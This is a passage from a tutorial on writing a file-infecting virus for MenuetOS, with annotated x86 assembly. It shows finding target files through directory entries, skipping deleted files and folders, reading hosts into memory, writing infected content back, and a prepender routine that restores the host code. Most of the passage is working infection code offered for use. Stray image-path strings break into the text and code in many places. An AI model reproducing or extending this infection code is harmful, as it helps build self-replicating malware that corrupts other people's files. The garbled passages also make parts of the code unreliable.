          mox ebp, dword[0x10]         ; ebp = 0x0 + dword [0x10]
          - - - - - - - - - -

       b) Find files

          This is of corse on of the most important parts of a virus, and in MenuetOS it's
          not that easy. The reason for that is, that there is no direct function for it.
          But, as I have told you, we have SYSTEM CALL 58, which could do that for us.
          With function 58 we can read files, but not only, we can even read directory
          entries. Just look at the following example:

          - - - - - - - - - -
          mov  eax, 58
          mov  ebx, dir_block
          int  0x40

               dd   0                    ; 0=READ
               dd   0x0                  ; size of reading block: 512 + x
               dd   0x16                 ; blocks to read = 16*512 = 8192 bytes
               dd   0x20000              ; Offset where to save data
               dd   0x10000              ; work area for os - 16384 bytes
               db   '/RAMDISK/FIRST',0   ; Directory Name
          - - - - - - - - - -

          Now we have the directory entries at memory offset 0x20000. The exact information
          about that will follow in the next capture. For now it's justimportant to know, that
          the first filename (always 11 letters) is at offset 0x0, and the whole information
          of one file is 32 bytes. That means, you can find files here: 0x0, 0x20, 0x40, 0x60, ...
          As we read 16*512 bytes, we got 100 files.
          You could get the filenames with a code like that:

          - - - - - - - - - -
                   mov  ebx, 0x20000    ; Offset in memory

                  add   ebx, 32         ; Get next file-start-offset
                  cmp   ebx, 0x22000    ; Compair if we got all file
                  jne   nextfile        ; If not, get next file
          - - - - - - - - - -

       c) Directory Entries

          Last capter talked about finding files via Directory Entries, but so far I
          haven't explained you the 32 bytes of a file. Well, here we are.
          The Directory Entry contains important informations like the file attributes
          or the information about a deleted file. We have to use this informations
          for avoiding the infection of deleted files or directories. If we don't avoid
          them, the virus will freeze the system. Now look at the following list:

          - - - - - - - - - -
          struct msdos_dir_entry {
          __u8name[8],ext[3];/* name and extension */       <-- IMPORTANT
          __u8attr;/* attribute bits */                     <-- IMPORTANT
          __u8    lcase;/* Case for base and extension */
          __u8ctime_ms;/* Creation time, milliseconds */
          __u16ctime;/* Creation time */
          __u16cdate;/* Creation date */
          __u16adate;/* Last access date */__u16   starthi;/* High 16 bits of cluster in FAT32 */
          __u16time,date,start;/* time, date and first cluster */
          __u32size;/* file size (in bytes) */              <-- IMPORTANT
          - - - - - - - - - -

          I have already told you, that the first 11 bytes contain the file name.
          But it contains also another information: If the first byte ofthe filename
          is 0xE5, we have a deleted file. To avoid them you should compair the
          first byte of the filename with 0xE5, and if it's equal, get the next file.

          The attribute bytes contains 7 values:

          - - - - - - - - - -
          #define ATTR_NONE    0  /* noattribute bits */
          #define ATTR_RO      1  /* read-only */
          #define ATTR_HIDDEN  2  /* hidden */
          #define ATTR_SYS     4  /* system */
          #define ATTR_VOLUME  8  /* volume label */
          #define ATTR_DIR     16 /* directory */           <-- IMPORTANT
          #define ATTR_ARCH    32 /* archived */
          - - - - - - - - - -

          If ATTR_DIR = 1, we have a directory, and we should avoid to infect it.
          To do this, you could use the following code:

          - - - - - - - - - -
          mov   cl, [ebx+11]    ; Move the attribute bits to cl
          and   cl, 0x10        ; AND 0x10 ( ???1 ???? = FOLDER )
          jnz   nextfile        ; If not zero, get next file
          - - - - - - - - - -

          The last important part of the Directory Entries is the filesize.
          You need the filesize for reading the file to memory, because MenuetOS
          don't allow us to read a whole file, but we have to include the length
          which we want to read.

       d) Read files to memory

          We have to read our filecontent to the memory, because we just can infect the
          file (= include the virus code and do some other stuff) in memory. To do that,
          we have to search the System Call, which can do it. Well, the call isī, again,
          the function 58. Look at a code reading a file:

          - - - - - - - - - -
          mov   eax, 58
          mov   ebx, fileinfo
          int   0x40


               dd   0                    ; 0=READ
               dd   0x0                  ; 512+x / block to read
               dd   0x1                  ; blocks to read
               dd   0x20000              ; return data pointer
               dd   0x10000              ; work area for os - 16384 bytes
               db   '/RAMDISK/FIRST/FILENAME',0  ;ASCIIZ dir & filename
          - - - - - - - - - -

          Now we two problems: First: We don't know how much blocks we have to read (because
          every file has a different filesize) and second we don't have the filename at the
          fileblock. We just have both information at the Directory Entry. What to do?
          As our code is executed at 0x0 in memory, we could write that informations to memory
          via 'stos'. But one more problem: The filesize at the Directory Entry is stored in bytes,
          but we need the blocks we have to read. A solution is the Assembler-command 'shr'.

          - - - - - - - - - -
                  Shifts the destination right by "count" bits with zeroes shifted
                  in on the left.  The Carry Flag contains the last bit shifted out.
          - - - - - - - - - -

          Let me show you, how that works. Let's say, we have a file with the size with 10.000 bytes:
          mov eax, filesize     <-- eax = 10011100010000b
          shr eax, 9            <-- eax = 10011b = 19d = 19 blocks
          inc eax               <-- eax = 20d
                                <-- 20*512 = 10.240 = we read got all bytes of the file

          Let's have a look at that:

          - - - - - - - - - -
          ;; ebx=offset of filename at Directory Entry

          mov   eax, dword [ebx+28]     ; Move the filesize to eax
          shr   eax, 9                  ; Get the blocksto read
          inc   eax             ; For reading the last not completed block

          mov   edi, flb_bs             ; Move the offset of the
          stosb                         ; Write [al] to di inmemory (number of blocks to flb_bs)

          mov   ecx, 11                 ; Move 11 to ecx (counter=11)
     fn2fb:                             ; File Name to File Block
          mov   al, [ebx]               ; Move the ebx-value to al
          stosb                         ; Write al to memory at offset edi (=11 letter buffer)
          inc   ebx                     ; Get next letter
     loop       fn2fb                   ; Jump to fn2fb if ecx>0 && dec ecx

          mov   eax, 58                 ; SYSTEM TREE ACCESS
          mov   ebx, fileblock          ; ebx=offset of fileblock
          int   0x40                    ; SYSTEM CALL

                  dd   0
                  dd   0x0
          flb_bs: dd0x1              ; How much blocks to read (filesize/512)
                  dd   0x25000          ; Here the filecontent will be stored
                  dd   0x10000
                  db '/RAMDISK/FIRST/'  ; This is the Direction we want to infect
          fle     db '           ',0    ; The 11 byte buffer for the filename 0-ended
          - - - - - - - - - -

          This way we read thewhole file to 0x25000 in memory. We just have to rewrite the code
          in memory and write the memory-content at that offset back to the file.

       e) Write memory to files

          After rewriting the file in memory, we have to write the file back. All we need we have.
          The filename in memory in the file-block, the numbers of blocks at the right address. The only
          thing we have to do is to change the first dword in the file-block. This dword is the kind
          of action (read/write, append and delete aren't ready so far). Well, we could use two different
          fileblocks, but that way we have to copy the filenames and the numbers of blocks. Well, I'll
          explain how to do it with one block. We have to write at address of file_block beginn the
          option 1. Let's look at the source:

          - - - - - - - - - -
          add   edi, file_block  ; Offset of fileblock
          mov   al, 1            ; What to write (1 for writing)
          stosb                  ; Write al to memory at offset edi

          mov   eax, 58          ; SYSTEM TREE ACCESS
          mov   ebx, file_block  ; File_block offset to ebx
          int   0x40             ; SYSTEM CALL

                  dd   0                ; First it's read, but we need write
                  dd   0x0
          flb_bs: dd   0x1              ; How much blocks to read (filesize/512 - still there)
                  dd   0x25000          ; The content of this offset will be written to the file
                  dd   0x10000
          filen   db '/RAMDISK/FIRST/'  ; This is the Direction we want to infect
          fle     db '           ',0    ; The 11 byte buffer for the filename 0-ended (still there)
          - - - - - - - - - -

          This code writes the 'WRITE-option' to fileblock-start, and then write flb_bs*512 bytes to
          filen until there is a NULL. The full filename and the numbers offileblocks to write are
          still there because of the reading before.

  4) Infection Type

       a) Prepender

          A Prepender virus infects its victim infront of the original host code and stores the
          code of the first part of the file at the end of the file. Such a file looks like that:

          Uninfected Sample:           Infected Sample:

          ++++++++++++                 +++++++++++++
          ++        ++                 ++         ++
          ++ HEADER ++                 ++ HEADER  ++
          ++        ++                 ++         ++
          ++++++++++++                 +++++++++++++
          ++++++++++++                 *************
          ++        ++                 **  VIRUS  **
          ++  HOST  ++                 *************
          ++        ++                 +++++++++++++++  CODE  ++                 ++ REST OF ++
          ++        ++                 ++   HOST  ++
          ++++++++++++                 +++++++++++++
                                       ##  START  ##
                                       ## OF HOST ##

          The virus searchs for the filesize of the host first. Than it copies the first bytes,
          which will be the virus-buffer, to an offset. This offset depends on the filesize.
          If the virus+header of file is bigger than the file, we would overwrite the restored
          bytes with the virus. Under that contition we have to restore the code at offset
          [viruslength+headerlenght]. Otherwise, if the file is bigger, we have to write the
          first hostpart at the end of the file. Next step is to infect the file, which means
          to insert the virusbody to the buffer at the filestart. The filestart is, as we already
          know, at offset 'dword [0xC]' stored. The filelength is at offset 'dword [0xC]'.
          After successful execution of the virus, we give the control back to the host.
          We have to write the original host-start (which is at the end of the file = dword [0x10]
          or at dword [0xC]+viruslength: You just have to check) back to the real file-start
          (dword [0xC]). We have to write the length of the virus to the filestart. But now we
          have one big problem: We can't overwrite our code as long as it is still running
          (writing back the host), so we have to be tricky: We write the restoring code for
          the host to a unused memory address and jump to that address.
          Look at the source:- - - - - - - - - -
          rebu:                         ; Rebuild the host code
                mov     ebx, dword [0x10]        ; Move the file length to ebx,to get the old hostcode offsetmov     edx, dword [0xC]        ; Move the offset of the head-length to edx
                add     edx, viruslength        ; Add the viruslength to edx

                cmp     ebx, edx        ; Check if the file is smaller than the virus
                jge     notsmall2       ; If not greater or equal, go on

                mov     ebx, edx        ; Move the new offset to ebx


                mov     edi, dword [0xC]        ; Where to write: 0xC
                mov     ecx, viruslength        ; How much to write

               rbhc:                    ; Rebuild host code
                mov     al, [ebx]       ; One byte of the saved host code to al
                stosb                   ; Write al (Host code) to edi (Entry Point of file)
                inc     ebx             ; Get next byte
               loop rbhc                ; Jump to rbch if ecx>0 && inc ecx

               jmp      dword [0xC]     ; Jump to Entry Point, now with the original code
           rebuend:                     ; Rebuild host code: End
          - - - - - - - - - -

       b) Appender

          This is the second infection type. This kind of virus copies the virus after the whole
          file and modifies the header, exactly the Entry Point. After the infection is finished,
          the virus restores jumps the original Entry Point. The infected file looks like this:

          Uninfected Sample:           Infected Sample:

          ++++++++++++                 ++++++++++++++
          ++        ++                 ++ MODIFIED ++
          ++ HEADER ++                 ++  HEADER++
          ++        ++                 ++          ++
          ++++++++++++                 ++++++++++++++
          ++++++++++++                 ++++++++++++++
